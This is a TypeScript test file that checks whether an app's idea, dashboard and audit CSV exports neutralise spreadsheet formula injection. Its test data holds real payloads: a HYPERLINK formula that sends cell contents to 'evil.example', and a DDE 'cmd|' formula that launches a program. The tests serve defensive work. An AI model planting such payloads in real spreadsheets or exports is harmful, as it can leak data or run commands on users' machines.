// Every CSV export writes text a spreadsheet would run as a formula (starting with =, +, -, @, a tab
// or a carriage return) as text: quoted, with an apostrophe first (OWASP's advice), wherever it comes
// from: an idea's title and brief, a person's name or e-mail, an institution's or a stage's name, an
// audit entry's target or address.
import { beforeAll, describe, expect, test } from "vitest";
import { loader as auditCsvLoader } from "~/routes/admin.audit[.]csv";
import { loader as dashboardCsvLoader } from "~/routes/dashboard.export[.]csv";
import { loader as ideasCsvLoader } from "~/routes/ideas.export[.]csv";
import { prisma } from "~/utils/db.server";
import { submittedIdea } from "../factories/idea";
import { getRequest } from "../factories/request";
import { createUser, sessionCookieFor } from "../factories/user";

const FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"Atvērt")', "+37120000000", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
const FORMULA_START = /^[=+\-@\t\r]/;

/** The cells of a CSV as written: each cell's raw text (quotes included) and its value. */
function cells(csv: string) {
  const found: { raw: string; value: string }[] = [];
  let i = csv.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < csv.length) {
    const start = i;
    let value = "";
    if (csv[i] === '"') {
      i++;
      for (;;) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else value += csv[i++];
      }
    } else {
      while (i < csv.length && csv[i] !== "," && csv[i] !== "\r") value += csv[i++];
    }
    found.push({ raw: csv.slice(start, i), value });
    if (csv[i] === ",") i++;
    else if (csv[i] === "\r" && csv[i + 1] === "\n") i += 2;
  }
  return found;
}

/** Each payload is in the file only as a quoted, apostrophe-led cell; no cell starts a formula. */
function expectNeutralised(csv: string, payloads: string[]) {
  const all = cells(csv);
  expect(all.filter((cell) => FORMULA_START.test(cell.value)).map((cell) => cell.raw)).toEqual([]);
  for (const payload of payloads) {
    const cell = all.find((c) => c.value === `'${payload}` || c.value.endsWith(`: ${payload}`));
    expect(cell, JSON.stringify(payload)).toBeDefined();
    if (cell!.value.startsWith("'")) expect(cell!.raw).toBe(`"'${payload.replace(/"/g, '""')}"`);
  }
}

async function csvOf(loader: (args: never) => unknown, url: string, cookie: string) {
  const response = (await loader({ request: getRequest(url, cookie), params: {}, context: {} } as never)) as Response;
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

let managerCookie: string;

beforeAll(async () => {
  managerCookie = await sessionCookieFor((await createUser({ role: "MANAGER" })).id);
  // An institution and an author whose names are formulas, and ideas whose titles and texts are.
  await prisma.institution.create({ data: { code: "CSV", nameLv: FORMULAS[0], nameEn: FORMULAS[0] } });
  const author = await createUser({ name: FORMULAS[3], institutionCode: "CSV" });
  for (const [i, formula] of FORMULAS.entries()) {
    const id = await submittedIdea(author.id, { title: `Ideja ${i}`, institutionCode: "CSV" });
    await prisma.idea.update({ where: { id }, data: { title: formula, problem: formula, partners: formula } });
  }
});

describe("the exports", () => {
  test("/ideas/export.csv: titles, brief texts, institution and author names", async () => {
    const csv = await csvOf(ideasCsvLoader as never, "/ideas/export.csv", managerCookie);
    expectNeutralised(csv, FORMULAS);
    const rows = cells(csv);
    // The first payload: one idea's title, problem and partners, and the institution of all six.
    expect(rows.filter((c) => c.value === `'${FORMULAS[0]}`)).toHaveLength(3 + 6);
    // The fourth: one idea's three texts, and the author of all six.
    expect(rows.filter((c) => c.value === `'${FORMULAS[3]}`)).toHaveLength(3 + 6);
  });

  test("/dashboard/export.csv: institution and stage names", async () => {
    await prisma.stage.update({ where: { key: "discover" }, data: { nameLv: FORMULAS[1], nameEn: FORMULAS[1] } });
    await prisma.stage.update({ where: { key: "define" }, data: { nameLv: FORMULAS[4], nameEn: FORMULAS[4] } });
    const csv = await csvOf(dashboardCsvLoader as never, "/dashboard/export.csv", managerCookie);
    expectNeutralised(csv, [FORMULAS[0], FORMULAS[1], FORMULAS[4]]);
    expect(cells(csv).filter((c) => c.value === `'${FORMULAS[0]}`).length).toBeGreaterThan(0);
  });

  test("/admin/audit.csv: e-mail addresses, targets and client addresses", async () => {
    const admin = await createUser({ role: "ADMIN" });
    const actor = await createUser({ role: "ADMIN", email: "-vards@example.lv" });
    for (const formula of FORMULAS) {
      await prisma.auditEntry.create({
        data: { actorId: actor.id, action: "INSTITUTION_UPDATE", targetType: "INSTITUTION", targetId: formula, ip: formula, before: "{}", after: "{}" },
      });
    }
    const csv = await csvOf(auditCsvLoader as never, "/admin/audit.csv", await sessionCookieFor(admin.id));
    expectNeutralised(csv, [...FORMULAS, "-vards@example.lv"]);
    expect(cells(csv).filter((c) => c.value === `'${FORMULAS[2]}`)).toHaveLength(2);
  });
});
